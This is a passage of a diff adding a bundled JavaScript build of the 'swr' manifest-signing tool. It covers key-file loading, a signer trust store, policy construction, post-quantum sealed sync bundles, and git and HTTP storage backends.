+    if (!decision.allowed) {
+        throw new SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
+    }
+    return { resign: true };
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/keys.ts
+/**
+ * Key material on this machine, in the private state directory only (never the workspace):
+ * `keys/hmac.key` and `keys/mldsa87.seed`, 64 hex digits each, mode 0600. A key file that others
+ * can read is refused rather than used.
+ */
+
+
+
+
+
+
+
+const HMAC_KEY_FILE = 'hmac.key';
+const IDENTITY_FILE = 'mldsa87.seed';
+/** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
+const SYNC_KEY_FILE = 'sync.seed';
+function keys_keyPath(stateDir, name) {
+    return external_node_path_default().join(stateDir, 'keys', name);
+}
+/** The contents of a private key file, or undefined when it does not exist. */
+function readPrivate(file) {
+    let st;
+    try {
+        st = external_node_fs_default().lstatSync(file);
+    }
+    catch (err) {
+        if (errors_errnoCode(err) === 'ENOENT')
+            return undefined;
+        throw err;
+    }
+    if (!st.isFile())
+        throw new errors_SwrError(`${file}: key file is not a regular file`, errors_EXIT.UNREPAIRABLE);
+    if ((st.mode & 0o077) !== 0) {
+        const mode = (st.mode & 0o777).toString(8);
+        throw new errors_SwrError(`${file}: key file is readable by others (mode 0${mode}); run chmod 600 on it`, errors_EXIT.UNREPAIRABLE);
+    }
+    return external_node_fs_default().readFileSync(file, 'utf8');
+}
+/** SWR_HMAC_KEY (passed in by the shell) wins over the key file. */
+function loadHmacKey(stateDir, envValue) {
+    if (envValue !== undefined && envValue !== '') {
+        const key = parseHmacKey(envValue);
+        if (!key)
+            throw new errors_SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', errors_EXIT.BAD_MANIFEST);
+        return { key, source: 'env' };
+    }
+    const text = readPrivate(keys_keyPath(stateDir, HMAC_KEY_FILE));
+    if (text === undefined)
+        return undefined;
+    const key = parseHmacKey(text);
+    if (!key)
+        throw new errors_SwrError(`${keys_keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
+    return { key, source: 'file' };
+}
+function loadIdentitySeed(stateDir) {
+    const text = readPrivate(keys_keyPath(stateDir, IDENTITY_FILE));
+    if (text === undefined)
+        return undefined;
+    if (!/^[0-9a-f]{64}\s*$/.test(text))
+        throw new SwrError(`${keys_keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
+    return Buffer.from(text.trim(), 'hex');
+}
+/** Create a new random key file; refuses to replace an existing one. */
+function createKeyFile(stateDir, name) {
+    ensurePrivateDir(stateDir, 'keys');
+    const bytes = randomBytes(32);
+    try {
+        writeFileAtomic(keys_keyPath(stateDir, name), bytes.toString('hex') + '\n', {
+            mode: 0o600,
+            exclusive: true
+        });
+    }
+    catch (err) {
+        if (errnoCode(err) === 'EEXIST') {
+            throw new SwrError(`${keys_keyPath(stateDir, name)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
+        }
+        throw err;
+    }
+    return bytes;
+}
+/** The sync key's seed: SWR_SYNC_KEY (64 hex digits) wins over the key file. */
+function loadSyncSeed(stateDir, envValue) {
+    if (envValue !== undefined && envValue !== '') {
+        if (!/^[0-9a-fA-F]{64}$/.test(envValue.trim()))
+            throw new SwrError('SWR_SYNC_KEY must be 64 hex digits', EXIT.BAD_MANIFEST);
+        return Buffer.from(envValue.trim(), 'hex');
+    }
+    const text = readPrivate(keys_keyPath(stateDir, SYNC_KEY_FILE));
+    if (text === undefined)
+        return undefined;
+    if (!/^[0-9a-f]{64}\s*$/.test(text))
+        throw new SwrError(`${keys_keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
+    return Buffer.from(text.trim(), 'hex');
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/trust.ts
+/**
+ * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
+ * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
+ * action input, never from files of the checked-out tree.
+ */
+
+
+
+
+
+
+function storePath(stateDir) {
+    return external_node_path_default().join(stateDir, 'trust.json');
+}
+function readTrustStore(stateDir) {
+    let text;
+    try {
+        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
+    }
+    catch {
+        return [];
+    }
+    try {
+        const v = JSON.parse(text);
+        if (v.v !== 1 || !Array.isArray(v.signers))
+            throw new Error('shape');
+        return v.signers.filter(s => mldsa_normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
+    }
+    catch {
+        throw new errors_SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, errors_EXIT.UNREPAIRABLE);
+    }
+}
+function writeTrustStore(stateDir, signers) {
+    ensurePrivateDir(stateDir);
+    writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
+        mode: 0o600
+    });
+}
+function addTrusted(stateDir, fp, name, now) {
+    const norm = normalizeFingerprint(fp);
+    if (!norm)
+        throw new SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, EXIT.BAD_MANIFEST);
+    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
+    const signer = { fingerprint: norm, name, added: now.toISOString() };
+    writeTrustStore(stateDir, [...signers, signer]);
+    return signer;
+}
+/** Remove by fingerprint or name; returns what was removed. */
+function removeTrusted(stateDir, what) {
+    const norm = normalizeFingerprint(what);
+    const signers = readTrustStore(stateDir);
+    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
+    if (removed.length === 0)
+        throw new SwrError(`no trusted signer matches ${what}`, EXIT.BAD_MANIFEST);
+    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
+    return removed;
+}
+/**
+ * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
+ * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
+ * or after "#", is a comment.
+ */
+function parseTrustedSigners(text) {
+    const out = new Set();
+    for (const raw of text.split(/[\n,]/)) {
+        const line = raw.replace(/#.*/, '').trim();
+        if (!line)
+            continue;
+        const fp = mldsa_normalizeFingerprint(line);
+        if (fp) {
+            out.add(fp);
+            continue;
+        }
+        const token = line.split(/\s+/)[0] ?? '';
+        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
+        if (key && key.length === PUBLIC_KEY_BYTES)
+            out.add(fingerprint(key));
+        else
+            throw new errors_SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, errors_EXIT.BAD_MANIFEST);
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/policy.ts
+/**
+ * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
+ * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
+ */
+
+
+
+
+
+
+
+function parseRequirement(v) {
+    if (!REQUIREMENTS.includes(v)) {
+        throw new errors_UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
+    }
+    return v;
+}
+/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
+function manifestPathInWorkspace(m) {
+    return paths_isInside(m.workspace, m.file)
+        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
+        : undefined;
+}
+function makePolicy(m, src) {
+    const trusted = new Set();
+    if (src.local)
+        for (const s of readTrustStore(src.stateDir))
+            trusted.add(s.fingerprint);
+    if (src.ownFingerprint)
+        trusted.add(src.ownFingerprint);
+    for (const t of src.trustedSigners)
+        for (const fp of parseTrustedSigners(t))
+            trusted.add(fp);
+    const hmac = src.local ? loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
+    return {
+        require: parseRequirement(src.require),
+        hmacKey: hmac?.key ?? (src.hmacKeyText ? loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
+        trusted,
+        threshold: src.threshold,
+        minVersion: src.minVersion,
+        remembered: src.local ? recall(src.stateDir, m.file, m.body.scope) : undefined,
+        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
+        now: src.now,
+        waiveDigest: src.waiveDigest
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/bundle.ts
+/**
+ * Off-box copies of the recipe book: the signed manifest with its tree indexes, packed into one
+ * bundle that `swr push` stores and `swr pull` brings back after a wipe.
+ *
+ * A bundle is sealed by default: a fresh 256-bit content key encrypts it with AES-256-GCM, and that
+ * key is sealed with HPKE (RFC 9180: the X-Wing hybrid post-quantum KEM, ML-KEM-768 + X25519,
+ * HKDF-SHA256, AES-256-GCM) once per recipient (this machine's sync key, named peers). A bundle in
+ * clear exists only when the user asked for it, and then never carries escrow (see redact.ts).
+ * Sealing is not trust: a pulled manifest is still verified (strict parse, schema, signatures
+ * through the gate) before anything writes or runs it.
+ */
+
+
+/** The first format: one recipient, the whole bundle sealed with HPKE (still read). */
+const SYNC_FORMAT_V1 = 'swr-sync/1';
+const SYNC_FORMAT = 'swr-sync/2';
+const SUITE_NAME = 'HPKE(X-Wing, HKDF-SHA256, AES-256-GCM)';
+const SUITE_V2 = (/* unused pure expression or super */ null && (`${SUITE_NAME} + AES-256-GCM`));
+const INFO_V1 = new TextEncoder().encode('swr manifest bundle v1');
+const INFO = new TextEncoder().encode('swr manifest bundle v2: content key');
+const bundle_MAX_BUNDLE_BYTES = (/* unused pure expression or super */ null && (96 * 1024 * 1024));
+/** Recipients one bundle may be sealed to (each adds about 1.5 KiB). */
+const MAX_RECIPIENTS = 32;
+async function suite() {
+    const [{ CipherSuite, HkdfSha256, Aes256Gcm }, { XWing }] = await Promise.all([
+        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(573)]).then(__nccwpck_require__.bind(__nccwpck_require__, 9573)),
+        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(948)]).then(__nccwpck_require__.bind(__nccwpck_require__, 2948))
+    ]);
+    return new CipherSuite({ kem: new XWing(), kdf: new HkdfSha256(), aead: new Aes256Gcm() });
+}
+function ab(bytes) {
+    return new Uint8Array(bytes).buffer;
+}
+/** The X-Wing public key of a sync seed (what `swr peer mine` prints). */
+async function syncPublicKey(seed) {
+    const s = await suite();
+    const kp = await s.kem.deriveKeyPair(ab(seed));
+    return Buffer.from(await s.kem.serializePublicKey(kp.publicKey));
+}
+/** A short, non-secret name of a recipient's public key. */
+function bundle_recipientId(publicKey) {
+    return createHash('sha256')
+        .update('swr-sync-recipient\0')
+        .update(publicKey)
+        .digest('hex')
+        .slice(0, 16);
+}
+/** Length of a serialized X-Wing public key. */
+const bundle_PUBLIC_KEY_BYTES = 1216;
+/** A public key as typed or pasted (base64, spaces and line breaks allowed), or undefined. */
+function bundle_parsePublicKey(text) {
+    const clean = text.replace(/\s+/g, '');
+    if (!/^[A-Za-z0-9+/]+={0,2}$/.test(clean))
+        return undefined;
+    const bytes = Buffer.from(clean, 'base64');
+    return bytes.length === bundle_PUBLIC_KEY_BYTES ? bytes : undefined;
+}
+/** Pack in clear (the caller decided it may: no escrow, tokens redacted). */
+function packPlain(bundle) {
+    return Buffer.from(JSON.stringify({ format: SYNC_FORMAT, sealed: false, bundle }));
+}
+/** Pack sealed to every public key in `recipients` (at least one). */
+async function packSealed(bundle, recipients) {
+    if (recipients.length === 0 || recipients.length > MAX_RECIPIENTS)
+        throw new SwrError(`a bundle is sealed to 1 to ${MAX_RECIPIENTS} recipients, not ${recipients.length}`, EXIT.BAD_MANIFEST);
+    const s = await suite();
+    const contentKey = randomBytes(32);
+    const iv = randomBytes(12);
+    const cipher = createCipheriv('aes-256-gcm', contentKey, iv);
+    cipher.setAAD(Buffer.from(SYNC_FORMAT));
+    const ct = Buffer.concat([
+        cipher.update(Buffer.from(JSON.stringify(bundle))),
+        cipher.final(),
+        cipher.getAuthTag()
+    ]);
+    const sealedFor = [];
+    for (const pub of recipients) {
+        const sender = await s.createSenderContext({
+            recipientPublicKey: await s.kem.deserializePublicKey(ab(pub)),
+            info: INFO
+        });
+        const key = await sender.seal(ab(contentKey), ab(iv));
+        sealedFor.push({
+            id: bundle_recipientId(pub),
+            enc: Buffer.from(sender.enc).toString('base64'),
+            key: Buffer.from(key).toString('base64')
+        });
+    }
+    contentKey.fill(0);
+    const env = {
+        format: SYNC_FORMAT,
+        sealed: true,
+        suite: SUITE_V2,
+        recipients: sealedFor,
+        iv: iv.toString('base64'),
+        ct: ct.toString('base64')
+    };
+    return Buffer.from(JSON.stringify(env));
+}
+function bundle_refuse(why) {
+    return new SwrError(`pulled bundle refused: ${why}`, EXIT.UNREPAIRABLE);
+}
+function isBundle(v) {
+    const b = v;
+    return (typeof b === 'object' &&
+        b !== null &&
+        typeof b.manifest === 'string' &&
+        typeof b.trees === 'object' &&
+        b.trees !== null &&
+        Object.values(b.trees).every(x => typeof x === 'string') &&
+        (b.redacted === undefined ||
+            (Array.isArray(b.redacted) &&
+                b.redacted.length <= 1000 &&
+                b.redacted.every(x => typeof x === 'string' && /^[A-Z][A-Z0-9_]{0,63}$/.test(x)))));
+}
+function parseBundle(text) {
+    let bundle;
+    try {
+        bundle = JSON.parse(text);
+    }
+    catch {
+        throw bundle_refuse('malformed bundle');
+    }
+    if (!isBundle(bundle))
+        throw bundle_refuse('malformed bundle');
+    return bundle;
+}
+/** What an envelope says about itself before it is opened (for `swr sync status`). */
+function envelopeInfo(bytes) {
+    try {
+        const env = JSON.parse(bytes.toString('utf8'));
+        if (!env.sealed)
+            return { sealed: false, recipients: [] };
+        if (env.format === SYNC_FORMAT_V1)
+            return { sealed: true, recipients: [env.recipient] };
+        return { sealed: true, recipients: env.recipients.map(r => String(r.id)) };
+    }
+    catch {
+        return undefined;
+    }
+}
+/**
+ * Unpack (and open, with `seed`) a bundle; every malformed or unopenable input is a clean refusal.
+ * A bundle in clear is accepted only with `allowPlain` (sealed is the default on both ends).
+ */
+async function unpackBundle(bytes, seed, opts = {}) {
+    if (bytes.length > bundle_MAX_BUNDLE_BYTES)
+        throw bundle_refuse(`${bytes.length} bytes, over the ${bundle_MAX_BUNDLE_BYTES}-byte limit`);
+    let env;
+    try {
+        env = JSON.parse(bytes.toString('utf8'));
+    }
+    catch {
+        throw bundle_refuse('not a bundle');
+    }
+    const format = env?.format;
+    if (format !== SYNC_FORMAT && format !== SYNC_FORMAT_V1)
+        throw bundle_refuse(`unknown format ${JSON.stringify(format)?.slice(0, 40)}`);
+    if (!env.sealed) {
+        if (!isBundle(env.bundle))
+            throw bundle_refuse('malformed bundle');
+        if (opts.allowPlain === false)
+            throw bundle_refuse('it was stored in clear (pass --plaintext-ok to accept it)');
+        return { bundle: env.bundle, sealed: false };
+    }
+    if (!seed)
+        throw bundle_refuse('it is sealed and no sync key is available (SWR_SYNC_KEY, or "swr keygen" on the machine that pushed)');
+    const plain = env.format === SYNC_FORMAT_V1 ? await openV1(env, seed) : await openV2(env, seed);
+    return { bundle: parseBundle(plain), sealed: true };
+}
+function b64(v, what) {
+    if (typeof v !== 'string')
+        throw bundle_refuse(`malformed ${what}`);
+    return ab(Buffer.from(v, 'base64'));
+}
+async function openV1(env, seed) {
+    if (env.suite !== SUITE_NAME)
+        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
+    if (env.recipient !== bundle_recipientId(await syncPublicKey(seed)))
+        throw bundle_refuse('it is sealed to another sync key');
+    try {
+        const s = await suite();
+        const kp = await s.kem.deriveKeyPair(ab(seed));
+        const recipient = await s.createRecipientContext({
+            recipientKey: kp.privateKey,
+            enc: b64(env.enc, 'enc'),
+            info: INFO_V1
+        });
+        return new TextDecoder().decode(await recipient.open(b64(env.ct, 'ciphertext')));
+    }
+    catch {
+        throw bundle_refuse('it does not open (altered in transit or storage)');
+    }
+}
+async function openV2(env, seed) {
+    if (env.suite !== SUITE_V2)
+        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
+    if (!Array.isArray(env.recipients) || env.recipients.length > MAX_RECIPIENTS)
+        throw bundle_refuse('malformed recipient list');
+    const mine = bundle_recipientId(await syncPublicKey(seed));
+    const slot = env.recipients.find(r => r?.id === mine);
+    if (!slot)
+        throw bundle_refuse('it is sealed to another sync key');
+    const iv = Buffer.from(b64(env.iv, 'iv'));
+    const ct = Buffer.from(b64(env.ct, 'ciphertext'));
+    if (iv.length !== 12 || ct.length < 16)
+        throw bundle_refuse('it does not open (malformed ciphertext)');
+    try {
+        const s = await suite();
+        const kp = await s.kem.deriveKeyPair(ab(seed));
+        const recipient = await s.createRecipientContext({
+            recipientKey: kp.privateKey,
+            enc: b64(slot.enc, 'enc'),
+            info: INFO
+        });
+        const contentKey = Buffer.from(await recipient.open(b64(slot.key, 'sealed key'), ab(iv)));
+        const decipher = createDecipheriv('aes-256-gcm', contentKey, iv);
+        decipher.setAAD(Buffer.from(SYNC_FORMAT));
+        decipher.setAuthTag(ct.subarray(ct.length - 16));
+        const plain = Buffer.concat([decipher.update(ct.subarray(0, ct.length - 16)), decipher.final()]);
+        contentKey.fill(0);
+        return plain.toString('utf8');
+    }
+    catch {
+        throw bundle_refuse('it does not open (altered in transit or storage)');
+    }
+}
+/** The cache key family for one manifest: the newest push wins on pull. */
+function syncKeyPrefix(scope) {
+    return `swr-manifest-v1-${createHash('sha256').update(scope).digest('hex').slice(0, 16)}-`;
+}
+function sha256Hex(bytes) {
+    return createHash('sha256').update(bytes).digest('hex');
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/store.ts
+/**
+ * Where a pushed bundle lives. Every store does three things: `put` bytes and say where they went
+ * (a locator: one string that names the store and the copy), `get` the bytes back by locator, and
+ * `stat` a locator (reachable, and when it was stored when the store knows). The stores:
+ *
+ *   git:REMOTE              a remote name, URL or bare repository path; the bundle is a commit on
+ *                           refs/swr/NAME (git-store.ts)
+ *   http://… / https://…    a URL template taking PUT and serving GET (http-store.ts)
+ *   actions                 the GitHub Actions cache (adapters/actions-cache-store.ts)
+ *
+ * Locators and store spellings come from the user, a recovery code or a record on disk: they are
+ * parsed strictly here, and nothing in them reaches a shell.
+ */
+
+/** Names of copies (a git ref component, a URL path segment). */
+const store_NAME_RE = /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/;
+function store_checkName(name) {
+    if (!store_NAME_RE.test(name) || name.includes('..') || name.endsWith('.lock'))
+        throw new UsageError(`bad copy name ${JSON.stringify(name.slice(0, 80))}: use 1-64 letters, digits, ".", "_" or "-"`);
+    return name;
+}
+/** A failure that may pass if tried again later (a 429 or 5xx, a reset connection). */
+class store_Transient extends Error {
+    retryAfterS;
+    constructor(message, 
+    /** Seconds the store asked to wait (Retry-After). */
+    retryAfterS) {
+        super(message);
+        this.retryAfterS = retryAfterS;
+        this.name = 'Transient';
+    }
+}
+function store_storeError(spelling, why) {
+    return new SwrError(`${spelling}: ${why}`, EXIT.UNREPAIRABLE);
+}
+const store_sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/**
+ * Run `op` until it succeeds, fails for good, or the deadline passes. A Transient failure is retried
+ * after its Retry-After, else after an exponential backoff (0.5 s, 1 s, 2 s, … at most 8 s); a wait
+ * that would end past the deadline is not started.
+ */
+async function store_withRetries(what, ctx, op) {
+    const end = Date.now() + ctx.deadlineMs;
+    for (let attempt = 0;; attempt++) {
+        try {
+            return await op();
+        }
+        catch (err) {
+            if (!(err instanceof store_Transient))
+                throw err;
+            const backoff = Math.min(8000, 500 * 2 ** attempt);
+            const waitMs = err.retryAfterS !== undefined ? err.retryAfterS * 1000 : backoff;
+            if (Date.now() + waitMs >= end)
+                throw new SwrError(`${what}: ${err.message}; gave up after ${attempt + 1} attempt${attempt ? 's' : ''} (the ${Math.round(ctx.deadlineMs / 1000)} s limit)`, EXIT.UNREPAIRABLE);
+            ctx.note?.(`${what}: ${err.message}; trying again in ${(waitMs / 1000).toFixed(1)} s`);
+            await store_sleep(waitMs);
+        }
+    }
+}
+/** The kind of store a spelling or locator names. */
+function store_storeKind(spec) {
+    if (spec.startsWith('git:'))
+        return 'git';
+    if (/^https?:\/\//i.test(spec))
+        return 'http';
+    if (spec === 'actions' || spec.startsWith('actions:'))
+        return 'actions';
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/git-store.ts
+/**
+ * A git remote as a store: the bundle becomes the only file (`bundle.json`) of a parentless commit,
+ * pushed to `refs/swr/NAME` of the remote (a remote name of the current repository, a URL, or a
+ * bare repository's path). The machine's own `git` does the work from a private, temporary bare
+ * repository, so no working tree, index or branch of any repository is touched. Each push replaces
+ * the ref (the remote keeps the newest bundle only).
+ *
+ * Locator: `git:REMOTE#NAME`, REMOTE resolved (a remote name becomes its URL, a path becomes
+ * absolute) and without any password it held. Only the file, git, http(s) and ssh transports are
+ * allowed (never `ext::`), git never prompts, and a remote spelled with a leading "-" is refused.
+ */
+
+
+
+
+
+
+const FILE = 'bundle.json';
+/** `git ARGS` without a shell; resolves to stdout, rejects with git's last stderr line. */
+function git(ctx, args, opts = {}) {
+    const maxOut = opts.maxOut ?? 1 << 20;
+    const env = {
+        ...ctx.env,
+        GIT_TERMINAL_PROMPT: '0',
+        GIT_ALLOW_PROTOCOL: 'file:git:http:https:ssh',
+        GIT_AUTHOR_NAME: 'swr',
+        GIT_AUTHOR_EMAIL: 'swr@localhost',
+        GIT_COMMITTER_NAME: 'swr',
+        GIT_COMMITTER_EMAIL: 'swr@localhost',
+        GIT_SSH_COMMAND: ctx.env.GIT_SSH_COMMAND ?? 'ssh -o BatchMode=yes',
+        LC_ALL: 'C'
+    };
+    for (const k of ['GIT_DIR', 'GIT_WORK_TREE', 'GIT_INDEX_FILE', 'GIT_OBJECT_DIRECTORY'])
+        delete env[k];
+    return new Promise((resolve, reject) => {
+        // No hook of any template or configuration runs in the scratch repository.
+        const child = spawn('git', ['-c', 'core.hooksPath=/dev/null', ...args], {
+            cwd: opts.cwd ?? ctx.cwd,
+            env,
+            stdio: ['pipe', 'pipe', 'pipe']
+        });
+        const out = [];
+        let outBytes = 0;
+        let err = '';
+        let failed;
+        const timer = setTimeout(() => {
+            failed = new Error(`git ${args[0]} took longer than ${Math.round(ctx.deadlineMs / 1000)} s`);
+            child.kill('SIGKILL');
+        }, ctx.deadlineMs);
+        child.stdout.on('data', (c) => {
+            outBytes += c.length;
+            if (outBytes > maxOut) {
+                failed = new Error(`git ${args[0]} printed more than ${maxOut} bytes`);
+                child.kill('SIGKILL');
+            }
+            else
+                out.push(c);
+        });
+        child.stderr.on('data', (c) => {
+            err = (err + c.toString('utf8')).slice(-4000);
+        });
+        child.on('error', e => reject(new Error(e.code === 'ENOENT' ? 'git is not installed' : e.message)));
+        child.on('close', code => {
+            clearTimeout(timer);
+            if (failed)
+                return reject(failed);
+            if (code !== 0) {
+                const line = err.trim().split('\n').filter(Boolean).pop() ?? `exit ${code}`;
+                return reject(new Error(line.replace(/\p{Cc}/gu, ' ').slice(0, 300)));
+            }
+            resolve(Buffer.concat(out));
+        });
+        child.stdin.on('error', () => undefined);
+        child.stdin.end(opts.input ?? '');
+    });
+}
+const URL_RE = /^([a-z][a-z0-9+.-]*):\/\//i;
+const ALLOWED = new Set(['file', 'git', 'http', 'https', 'ssh']);
+function withoutPassword(url) {
+    const m = URL_RE.exec(url);
+    if (!m)
+        return url;
+    try {
+        const u = new URL(url);
+        if (!u.password)
+            return url;
+        u.password = '';
+        return u.toString();
+    }
+    catch {
+        return url;
+    }
+}
+async function resolveRemote(remote, ctx) {
+    if (remote === '' || remote.startsWith('-') || /\p{Cc}/u.test(remote) || remote.length > 2000)
+        throw new UsageError(`bad git remote ${JSON.stringify(remote.slice(0, 80))}`);
+    const scheme = URL_RE.exec(remote)?.[1]?.toLowerCase();
+    if (scheme) {
+        if (!ALLOWED.has(scheme))
+            throw new UsageError(`git remote: the ${scheme} transport is not allowed`);
+        return { url: remote, shown: withoutPassword(remote) };
+    }
+    if (remote.includes('::'))
+        throw new UsageError('git remote: transport helpers are not allowed');
+    // scp-like user@host:path (a colon before any slash) is ssh.
+    if (/^[^/]*:/.test(remote))
+        return { url: remote, shown: remote };
+    const local = path.resolve(ctx.cwd, remote);
+    if (remote.includes('/') || fs.existsSync(local))
+        return { url: local, shown: local };
+    // A remote name of the repository around the working directory.
+    let url;
+    try {
+        url = (await git(ctx, ['remote', 'get-url', '--', remote])).toString('utf8').trim();
+    }
+    catch {
+        throw new UsageError(`git remote "${remote}": no such remote here and no such path`);
+    }
+    if (url === remote)
+        throw new UsageError(`git remote "${remote}" resolves to itself`);
+    return resolveRemote(url, ctx);
+}
+/** `git:REMOTE#NAME` → its parts. */
+function git_store_parseGitLocator(locator) {
+    const body = locator.slice('git:'.length);
+    const at = body.lastIndexOf('#');
+    if (!locator.startsWith('git:') || at <= 0)
+        throw new UsageError(`bad git locator ${JSON.stringify(locator.slice(0, 120))}`);
+    return { remote: body.slice(0, at), name: checkName(body.slice(at + 1)) };
+}
+async function withScratchRepo(ctx, fn) {
+    const dir = fs.mkdtempSync(path.join(ctx.tmpDir, 'swr-git-'));
+    try {
+        await git(ctx, ['init', '--bare', '--quiet', dir]);
+        return await fn(dir);
+    }
+    finally {
+        fs.rmSync(dir, { recursive: true, force: true });
+    }
+}
+function git_store_gitStore(spelling, ctx) {
+    const remoteSpec = spelling.slice('git:'.length);
+    const fail = (why) => storeError(spelling, why);
+    return {
+        spelling,
+        async put(bytes, meta) {
+            const name = checkName(meta.name);
+            const remote = await resolveRemote(remoteSpec, ctx);
+            return withScratchRepo(ctx, async (dir) => {
+                const g = (args, input) => git(ctx, ['--git-dir', dir, ...args], { input });
+                try {
+                    const blob = (await g(['hash-object', '-w', '--stdin'], bytes)).toString().trim();
+                    const tree = (await g(['mktree'], `100644 blob ${blob}\t${FILE}\n`)).toString().trim();
+                    const commit = (await g(['commit-tree', tree, '-m', `swr bundle ${name}\n\nsha256 ${meta.sha256}\n`]))
+                        .toString()
+                        .trim();
+                    await g(['push', '--quiet', '--no-verify', remote.url, `+${commit}:refs/swr/${name}`]);
+                }
+                catch (err) {
+                    throw fail(`push failed: ${err.message}`);
+                }
+                return `git:${remote.shown}#${name}`;
+            });
+        },
+        locate: name => `git:${remoteSpec}#${checkName(name)}`,
+        async get(locator) {
+            const { remote: r, name } = git_store_parseGitLocator(locator);
+            const remote = await resolveRemote(r, ctx);
+            return withScratchRepo(ctx, async (dir) => {
+                const g = (args, maxOut) => git(ctx, ['--git-dir', dir, ...args], { maxOut });
+                try {
+                    await g(['fetch', '--quiet', '--no-tags', remote.url, `+refs/swr/${name}:refs/swr/got`]);
+                }
+                catch (err) {
+                    const msg = err.message;
+                    throw fail(/couldn't find remote ref/i.test(msg) ? `no copy named ${name}` : `fetch failed: ${msg}`);
+                }
+                let size;
+                try {
+                    size = Number((await g(['cat-file', '-s', `refs/swr/got:${FILE}`])).toString().trim());
+                }
+                catch {
+                    throw fail(`refs/swr/${name} holds no ${FILE}`);
+                }
+                if (!(size <= MAX_BUNDLE_BYTES))
+                    throw fail(`${size} bytes, over the ${MAX_BUNDLE_BYTES}-byte limit`);
+                const bytes = await g(['cat-file', 'blob', `refs/swr/got:${FILE}`], MAX_BUNDLE_BYTES);
+                const ct = Number((await g(['show', '-s', '--format=%ct', 'refs/swr/got'])).toString());
+                return { bytes, storedAt: Number.isFinite(ct) && ct > 0 ? new Date(ct * 1000) : undefined };
+            });
+        },
+        async stat(locator) {
+            const { remote: r, name } = git_store_parseGitLocator(locator);
+            try {
+                const remote = await resolveRemote(r, ctx);
+                const out = await git(ctx, ['ls-remote', remote.url, `refs/swr/${name}`]);
+                return out.length > 0
+                    ? { reachable: true }
+                    : { reachable: false, detail: `no copy named ${name}` };
+            }
+            catch (err) {
+                return { reachable: false, detail: err.message };
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/sync/http-store.ts
+/**
+ * An HTTP(S) URL template as a store: `push` PUTs the bundle to the template filled in, `pull`
+ * GETs it back. Placeholders: `{name}` (the copy's name) and `{sha256}` (the hex SHA-256 of the
+ * stored bytes, for content-addressed stores); a template without them is one fixed URL. The
+ * locator is the filled-in URL.
+ *
+ * Credentials never sit in the URL (a URL with a user or password is refused, since the locator
+ * ends up in the recovery code): the Authorization header's value is read from the environment
+ * variable named by `--auth-env VAR`, at each run. Redirects are not followed. Every request has a
+ * time limit and every body a size limit; 429 and 5xx answers, cut-short bodies and timeouts are
+ * retried (store.ts) until the operation's deadline.
+ */
+
+
+
+const PLACEHOLDER = /\{([^}]*)\}/g;
+const KNOWN = new Set(['name', 'sha256']);
+function checkUrl(url, what) {
+    let u;
+    try {
+        u = new URL(url);
+    }
+    catch {
+        throw new UsageError(`${what}: not a URL: ${JSON.stringify(url.slice(0, 120))}`);
+    }
+    if (u.protocol !== 'http:' && u.protocol !== 'https:')
+        throw new UsageError(`${what}: only http and https URLs are stores`);
+    if (u.username || u.password)
+        throw new UsageError(`${what}: a URL must not hold credentials (they would end up in the recovery code); use --auth-env VAR`);
+    return u;
+}
+/** The template with its placeholders filled in. */
+function fillTemplate(template, values) {
+    const url = template.replace(PLACEHOLDER, (_, key) => {
+        if (!KNOWN.has(key))
+            throw new UsageError(`${template.slice(0, 120)}: unknown placeholder {${key}} (use {name} or {sha256})`);
+        return key === 'name' ? checkName(values.name) : values.sha256;
+    });
+    checkUrl(url, template.slice(0, 120));
+    return url;
+}
+/** Retry-After in seconds (delta-seconds or an HTTP date), or undefined. */
+function retryAfterSeconds(value, now = Date.now()) {
+    if (!value)
+        return undefined;
+    if (/^\d{1,7}$/.test(value.trim()))
+        return Number(value.trim());
+    const t = Date.parse(value);
+    return Number.isFinite(t) ? Math.max(0, (t - now) / 1000) : undefined;
+}
+function headers(ctx) {
